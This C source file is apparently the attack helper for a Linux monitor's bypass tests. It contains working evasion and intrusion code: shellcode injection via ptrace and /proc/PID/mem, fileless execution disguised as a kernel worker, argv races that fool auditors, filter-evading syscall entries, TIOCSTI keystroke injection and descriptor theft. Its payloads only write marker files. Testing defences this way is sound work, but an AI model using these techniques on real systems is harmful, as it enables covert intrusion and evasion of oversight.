/* The attacker's tool of the bypass tests: what a shell cannot do by itself. Compiled where the tests run.
 *
 * attack WORD …: see the table at the end. A word "@" stands for the variable HIDDEN, so that a recorder of command lines alone does
 * not know what was done. Each prints what went wrong and ends with 1, so that an attack that did nothing is
 * never taken for one that was refused. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *self;

static int fail(const char *what) {
    fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
    return 1;
}

/* act FILE … MARK: what is to be hidden. FILE proves that it happened. What stands between is padding. */
static int act(char **a) {
    char **last = a + 1;
    while (last[1]) last++;
    int fd = open(a[0], O_WRONLY | O_CREAT | O_APPEND, 0666);
    return fd < 0 || write(fd, *last, strlen(*last)) < 0 ? fail(a[0]) : 0;
}

/* note FILE MARK: as act; the file gets the argument that the program was really started with. */
static int note(char **a) {
    int fd = open(a[0], O_WRONLY | O_CREAT | O_APPEND, 0666);
    return fd < 0 || dprintf(fd, "%s\n", a[1]) < 0 ? fail(a[0]) : 0;
}

static char shown[64];
static const char *innocent, *guilty;

static void *flip(void *unused) {
    (void)unused;
    size_t length = strlen(guilty);
    for (;;) {
        memcpy(shown, innocent, length);
        memcpy(shown, guilty, length);
    }
    return NULL;
}

/* race FILE INNOCENT GUILTY: starts `note` many times while a second thread rewrites its argument. Equal lengths. */
static int race(char **a) {
    innocent = a[1], guilty = a[2];
    for (int i = 0; i < 60; i++) {
        pid_t child = fork();
        if (child == 0) {
            pthread_t thread;
            strcpy(shown, innocent);
            if (pthread_create(&thread, NULL, flip, NULL)) _exit(fail("thread"));
            usleep(2000 + 37 * i);
            execl(self, self, "note", a[0], shown, NULL);
            _exit(fail("exec"));
        }
        int status;
        if (child < 0 || waitpid(child, &status, 0) < 0) return fail("fork");
    }
    return 0;
}

/* cold FILE MARK: arguments on pages that have never been in memory. */
static int cold(char **a) {
    char name[] = "/var/tmp/coldXXXXXX";
    int fd = mkstemp(name);
    unlink(name);
    if (fd < 0 || pwrite(fd, a[0], strlen(a[0]) + 1, 0) < 0 || pwrite(fd, a[1], strlen(a[1]) + 1, 8192) < 0) return fail("file");
    fsync(fd);
    posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
    char *map = mmap(NULL, 16384, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map == MAP_FAILED) return fail("mmap");
    char *argv[] = {(char *)self, "act", map, map + 8192, NULL};
    execv(self, argv);
    return fail("exec");
}

/* memfd FILE MARK: runs a copy of itself that has no path. */
static int in_memory(char **a) {
    int from = open(self, O_RDONLY), to = memfd_create("kworker", MFD_CLOEXEC);
    struct stat st;
    if (from < 0 || to < 0 || fstat(from, &st) || sendfile(to, from, NULL, st.st_size) != st.st_size) return fail("memfd");
    char *argv[] = {"[kworker/0:1]", "act", a[0], a[1], NULL};
    fexecve(to, argv, environ);
    return fail("fexecve");
}

static char **rest;

static void *exec_self(void *unused) {
    (void)unused;
    execl(self, self, "act", rest[0], rest[1], NULL);
    return NULL;
}

/* thread FILE MARK: the exec comes from a thread that is not the first. */
static int by_thread(char **a) {
    pthread_t thread;
    rest = a;
    if (pthread_create(&thread, NULL, exec_self, NULL)) return fail("thread");
    pthread_join(thread, NULL);
    return fail("exec");
}

static char stack[65536] __attribute__((aligned(16)));

static int child_exec(void *unused) {
    (void)unused;
    exec_self(NULL);
    return 1;
}

/* sibling FILE MARK: a child that claims the caller's parent for its own. */
static int sibling(char **a) {
    rest = a;
    if (clone(child_exec, stack + sizeof stack, CLONE_PARENT | CLONE_VFORK | CLONE_VM | SIGCHLD, NULL) < 0) return fail("clone");
    return 0;
}

/* tty HOW TEXT: writes to standard output by other ways than write. */
static int ring_write(int fd, const char *text, size_t length);

static int tty(char **a) {
    const char *how = a[0], *text = a[1];
    size_t length = strlen(text), half = length / 2;
    int ends[2];
    struct iovec pieces[2] = {{(void *)text, half}, {(void *)(text + half), length - half}};
    if (!strcmp(how, "writev")) return writev(1, pieces, 2) == (ssize_t)length ? 0 : fail(how);
    if (!strcmp(how, "uring")) return ring_write(1, text, length);
    if (!strcmp(how, "devtty")) {
        int fd = open("/dev/tty", O_WRONLY);
        return fd >= 0 && write(fd, text, length) == (ssize_t)length ? 0 : fail(how);
    }
    if (!strcmp(how, "sendfile")) {
        int fd = memfd_create("text", 0);
        if (write(fd, text, length) < 0 || lseek(fd, 0, SEEK_SET) < 0) return fail(how);
        return sendfile(1, fd, NULL, length) == (ssize_t)length ? 0 : fail(how);
    }
    if (pipe(ends)) return fail("pipe");
    if (!strcmp(how, "vmsplice")) {
        if (vmsplice(ends[1], pieces, 2, 0) != (ssize_t)length) return fail(how);
    } else if (write(ends[1], text, length) != (ssize_t)length) return fail(how);
    return splice(ends[0], NULL, 1, NULL, length, 0) == (ssize_t)length ? 0 : fail(how);
}

/* flicker INNOCENT GUILTY COUNT: writes a line to standard output while a second thread rewrites it. */
static int flicker(char **a) {
    pthread_t thread;
    innocent = a[0], guilty = a[1];
    strcpy(shown, innocent);
    if (pthread_create(&thread, NULL, flip, NULL)) return fail("thread");
    for (int i = 0; i < atoi(a[2]); i++)
        if (write(1, shown, strlen(innocent)) < 0) return fail("write");
    return 0;
}

struct ring {
    int fd;
    uint32_t *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int ring_make(struct ring *r) {
    struct io_uring_params p = {0};
    r->fd = syscall(SYS_io_uring_setup, 4, &p);
    if (r->fd < 0) return fail("io_uring_setup");
    size_t sq = p.sq_off.array + p.sq_entries * 4, cq = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *s = mmap(NULL, sq, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQ_RING);
    char *c = mmap(NULL, cq, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_CQ_RING);
    r->sqes = mmap(NULL, p.sq_entries * sizeof *r->sqes, PROT_READ | PROT_WRITE, MAP_SHARED, r->fd, IORING_OFF_SQES);
    if (s == MAP_FAILED || c == MAP_FAILED || r->sqes == MAP_FAILED) return fail("io_uring mmap");
    r->sq_tail = (void *)(s + p.sq_off.tail), r->sq_mask = (void *)(s + p.sq_off.ring_mask), r->sq_array = (void *)(s + p.sq_off.array);
    r->cq_head = (void *)(c + p.cq_off.head), r->cq_tail = (void *)(c + p.cq_off.tail), r->cq_mask = (void *)(c + p.cq_off.ring_mask);
    r->cqes = (void *)(c + p.cq_off.cqes);
    return 0;
}

static int ring_do(struct ring *r, struct io_uring_sqe sqe) {
    uint32_t at = *r->sq_tail & *r->sq_mask;
    r->sqes[at] = sqe;
    r->sq_array[at] = at;
    __atomic_store_n(r->sq_tail, *r->sq_tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
    uint32_t head = *r->cq_head;
    int result = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return result;
}

static int ring_write(int fd, const char *text, size_t length) {
    struct ring r;
    if (ring_make(&r)) return 1;
    int done = ring_do(&r, (struct io_uring_sqe){.opcode = IORING_OP_WRITE, .fd = fd, .addr = (uintptr_t)text, .len = length, .off = -1});
    errno = -done;
    return done == (int)length ? 0 : fail("io_uring write");
}

/* uring-file FILE TEXT: makes and writes a file by io_uring alone. */
static int ring_file(char **a) {
    struct ring r;
    if (ring_make(&r)) return 1;
    int fd = ring_do(&r, (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)a[0], .len = 0644, .open_flags = O_CREAT | O_WRONLY});
    errno = -fd;
    if (fd < 0) return fail("io_uring open");
    int done = ring_do(&r, (struct io_uring_sqe){.opcode = IORING_OP_WRITE, .fd = fd, .addr = (uintptr_t)a[1], .len = strlen(a[1]), .off = 0});
    errno = -done;
    return done > 0 ? 0 : fail("io_uring write");
}

/* uring-connect PORT: connects to a port of this host by io_uring alone. */
static int ring_connect(char **a) {
    struct ring r;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(a[0])), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (ring_make(&r)) return 1;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int done = ring_do(&r, (struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uintptr_t)&to, .off = sizeof to});
    errno = -done;
    return done == 0 ? 0 : fail("io_uring connect");
}

/* dirty DIR: mkdir by a system call number whose upper half is not zero. */
static int dirty(char **a) {
    long result, number = 0xffffffff00000000L | SYS_mkdir;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a[0]), "S"(0755L) : "rcx", "r11", "memory");
    errno = -result;
    return result == 0 ? 0 : fail("mkdir");
}

/* int80 DIR: mkdir by the 32-bit entry from a 64-bit program. */
static int int80(char **a) {
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    long result;
    if (low == MAP_FAILED) return fail("mmap");
    strncpy(low, a[0], 4095);
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(39L), "b"(low), "c"(0755L) : "r8", "r9", "r10", "r11", "memory");
    errno = -(int)result;
    return (int)result == 0 ? 0 : fail("mkdir");
}

/* x32 DIR: mkdir by the number of the x32 interface. */
static int x32(char **a) {
    return syscall(0x40000000 | SYS_mkdir, a[0], 0755) == 0 ? 0 : fail("mkdir");
}

/* type TEXT: types a line at the controlling terminal without a keyboard. */
static int type(char **a) {
    int fd = open("/dev/tty", O_RDWR);
    for (const char *key = a[0]; *key; key++)
        if (ioctl(fd, TIOCSTI, key)) return fail("TIOCSTI");
    return ioctl(fd, TIOCSTI, "\n") ? fail("TIOCSTI") : 0;
}

/* machine-code DIR: makes a folder by code that came from no program. */
static int machine_code(char **a) {
    /* mov eax, 83; mov esi, 0755; syscall; ret */
    static const unsigned char code[] = {0xb8, 83, 0, 0, 0, 0xbe, 0xed, 1, 0, 0, 0x0f, 5, 0xc3};
    char *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(memory, code, sizeof code);
    if (mprotect(memory, 4096, PROT_READ | PROT_EXEC)) return fail("mprotect");
    errno = -((int (*)(const char *))memory)(a[0]);
    return errno ? fail("mkdir") : 0;
}

/* library FILE: loads a library. */
static int library(char **a) {
    if (dlopen(a[0], RTLD_NOW)) return 0;
    fprintf(stderr, "attack: %s\n", dlerror());
    return 1;
}

/* inject PID HOW FILE MARK: makes another process, which belongs to nobody here, become `attack act FILE MARK`.
 * HOW: ptrace, or mem for a write to its memory file while it sleeps in a system call. */
static int inject(char **a) {
    pid_t pid = atoi(a[0]);
    struct user_regs_struct regs;
    uintptr_t place;
    /* Room for the code and its strings below the stack pointer would not be executable; take the running code itself. */
    unsigned char code[512] = {0xe8, 0, 0, 0, 0, 0x5b};
    char line[64];
    const char *words[] = {self, "act", a[2], a[3]};
    size_t at = 6, text = 200, offsets[4];
    for (int i = 0; i < 4; i++) {
        offsets[i] = text;
        text += strlen(strcpy((char *)code + text, words[i])) + 1;
        if (text > sizeof code - 64) return fail("too long");
    }
    /* rbx = base + 5. push 0; push the four addresses backwards; execve(words[0], rsp, 0). */
    code[at++] = 0x6a, code[at++] = 0;
    for (int i = 3; i >= 0; i--) {
        int32_t distance = offsets[i] - 5;
        memcpy(code + at, "\x48\x8d\x83", 3), memcpy(code + at + 3, &distance, 4), at += 7;
        code[at++] = 0x50;
    }
    memcpy(code + at, "\x48\x89\xc7\x48\x89\xe6\x31\xd2\x6a\x3b\x58\x0f\x05\x0f\x0b", 15), at += 15;
    if (!strcmp(a[1], "mem")) {
        snprintf(line, sizeof line, "/proc/%d/syscall", pid);
        unsigned long words_read[9] = {0};
        int told = 0;
        /* A process that was just started may still be running, on a busy machine for a while; then it is not told where it will go on. */
        for (int tries = 0; told != 9 && tries < 200; tries++) {
            if (tries) usleep(10000);
            FILE *where = fopen(line, "r");
            if (!where) return fail(line);
            told = fscanf(where, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &words_read[0], &words_read[1], &words_read[2], &words_read[3],
                          &words_read[4], &words_read[5], &words_read[6], &words_read[7], &words_read[8]);
            fclose(where);
        }
        if (told != 9) return fail(line);
        place = words_read[8];
        snprintf(line, sizeof line, "/proc/%d/mem", pid);
        int fd = open(line, O_RDWR);
        if (fd < 0 || pwrite(fd, code, sizeof code, place) != sizeof code) return fail(line);
        return 0;
    }
    if (ptrace(PTRACE_ATTACH, pid, 0, 0)) return fail("ptrace");
    waitpid(pid, NULL, 0);
    if (ptrace(PTRACE_GETREGS, pid, 0, &regs)) return fail("registers");
    place = regs.rip;
    for (size_t i = 0; i < sizeof code; i += 8)
        if (ptrace(PTRACE_POKETEXT, pid, place + i, *(long *)(code + i))) return fail("poke");
    regs.orig_rax = -1;
    ptrace(PTRACE_SETREGS, pid, 0, &regs);
    return ptrace(PTRACE_DETACH, pid, 0, 0) ? fail("detach") : 0;
}

/* steal PID: takes descriptors out of another process; ends with 0 if it got one. */
static int steal(char **a) {
    int taken = 0, process = syscall(SYS_pidfd_open, atoi(a[0]), 0);
    if (process < 0) return fail("pidfd_open");
    for (int fd = 3; fd < 64; fd++)
        if (syscall(SYS_pidfd_getfd, process, fd, 0) >= 0) taken++;
    return taken ? 0 : fail("pidfd_getfd");
}

/* kexec: asks the kernel to load another one; it is an empty one, so the kernel is not harmed either way. */
static int kexec(char **a) {
    (void)a;
    return syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0UL) ? fail("kexec_load") : 0;
}

/* hold DIR FILE MARK: lets nobody else open anything on the file system of DIR, and acts meanwhile. Nobody who waits can be killed. */
static int hold(char **a) {
    int fd = fanotify_init(FAN_CLASS_CONTENT | FAN_CLOEXEC, O_RDONLY);
    if (fd < 0 || fanotify_mark(fd, FAN_MARK_ADD | FAN_MARK_MOUNT, FAN_OPEN_PERM, AT_FDCWD, a[0])) return fail("fanotify");
    pid_t child = fork();
    if (child == 0) {
        execl(self, self, "act", a[1], a[2], NULL);
        _exit(fail("exec"));
    }
    sleep(3);
    return waitpid(child, NULL, 0) < 0 ? fail("wait") : 0;
}

/* owner PID SIGNAL: has the kernel send it a signal, as the owner of a descriptor on which something happens. */
static int owner(char **a) {
    int ends[2];
    if (pipe(ends) || fcntl(ends[0], F_SETOWN, atoi(a[0])) || fcntl(ends[0], F_SETSIG, atoi(a[1])) || fcntl(ends[0], F_SETFL, O_ASYNC)) return fail("fcntl");
    if (write(ends[1], "", 1) != 1) return fail("write");
    return usleep(300000);
}

/* freeze DIR FILE MARK: lets the file system of DIR take nothing more, and acts meanwhile; FILE must be on another one. */
static int freeze(char **a) {
    int fd = open(a[0], O_RDONLY | O_DIRECTORY);
    if (fd < 0 || ioctl(fd, FIFREEZE, 0)) return fail("freeze");
    pid_t child = fork();
    if (child == 0) {
        execl(self, self, "act", a[1], a[2], NULL);
        _exit(fail("exec"));
    }
    int done = waitpid(child, NULL, 0);
    sleep(1);
    return ioctl(fd, FITHAW, 0) || done < 0 ? fail("thaw") : 0;
}

/* ports: takes the machine's I/O ports, by which it can be reset and its disks be written. */
static int ports(char **a) {
    (void)a;
    return syscall(SYS_iopl, 3) ? fail("iopl") : 0;
}

/* boot: asks for nothing but what also a reset needs, the right to end the machine. */
static int boot(char **a) {
    (void)a;
    return reboot(RB_DISABLE_CAD) ? fail("reboot") : 0;
}

/* writable FILE: opens a file for writing and leaves it as it is. */
static int writable(char **a) {
    return open(a[0], O_WRONLY) < 0 ? fail(a[0]) : 0;
}

/* rename NAME FILE MARK: calls itself something else, in its memory and to the kernel, and acts as that. */
static int renamed(char **a) {
    prctl(PR_SET_NAME, a[0]);
    return act(a + 1);
}

/* fault SECONDS: dies of a signal that dumps core. */
static int fault(char **a) {
    (void)a;
    abort();
}

static void *sleep_on(void *unused) {
    for (;;) sleep(1000);
    return unused;
}

/* headless FILE: goes on without its first thread, which /proc then shows as a zombie. FILE stays locked for as long as it lives. */
static int headless(char **a) {
    int fd = open(a[0], O_RDWR | O_CREAT, 0666);
    pthread_t thread;
    if (fd < 0 || flock(fd, LOCK_EX)) return fail(a[0]);
    if (pthread_create(&thread, NULL, sleep_on, NULL)) return fail("thread");
    return (int)syscall(SYS_exit, 0);
}

int main(int argc, char **argv) {
    static const struct { const char *word; int (*run)(char **); int words; } table[] = {
        {"act", act, 2}, {"note", note, 2}, {"race", race, 3}, {"cold", cold, 2}, {"memfd", in_memory, 2},
        {"thread", by_thread, 2}, {"sibling", sibling, 2}, {"tty", tty, 2}, {"flicker", flicker, 3},
        {"uring-file", ring_file, 2}, {"uring-connect", ring_connect, 1}, {"dirty", dirty, 1}, {"int80", int80, 1},
        {"x32", x32, 1}, {"type", type, 1}, {"machine-code", machine_code, 1}, {"library", library, 1},
        {"inject", inject, 4}, {"steal", steal, 1}, {"kexec", kexec, 0}, {"rename", renamed, 3}, {"hold", hold, 3}, {"writable", writable, 1}, {"fault", fault, 0},
        {"owner", owner, 2}, {"freeze", freeze, 3}, {"ports", ports, 0}, {"boot", boot, 0}, {"headless", headless, 1},
    };
    static char path[4096];
    /* In a root directory of its own there may be no /proc. */
    self = readlink("/proc/self/exe", path, sizeof path - 1) < 0 ? argv[0] : path;
    for (int i = 2; i < argc; i++)
        if (!strcmp(argv[i], "@") && getenv("HIDDEN")) argv[i] = getenv("HIDDEN");
    for (size_t i = 0; i < sizeof table / sizeof *table; i++)
        if (argc > 1 && !strcmp(argv[1], table[i].word) && (argc == table[i].words + 2 || (i == 0 && argc > 4))) return table[i].run(argv + 2);
    fprintf(stderr, "attack: unknown, or a wrong number of words: %s\n", argc > 1 ? argv[1] : "");
    return 2;
}
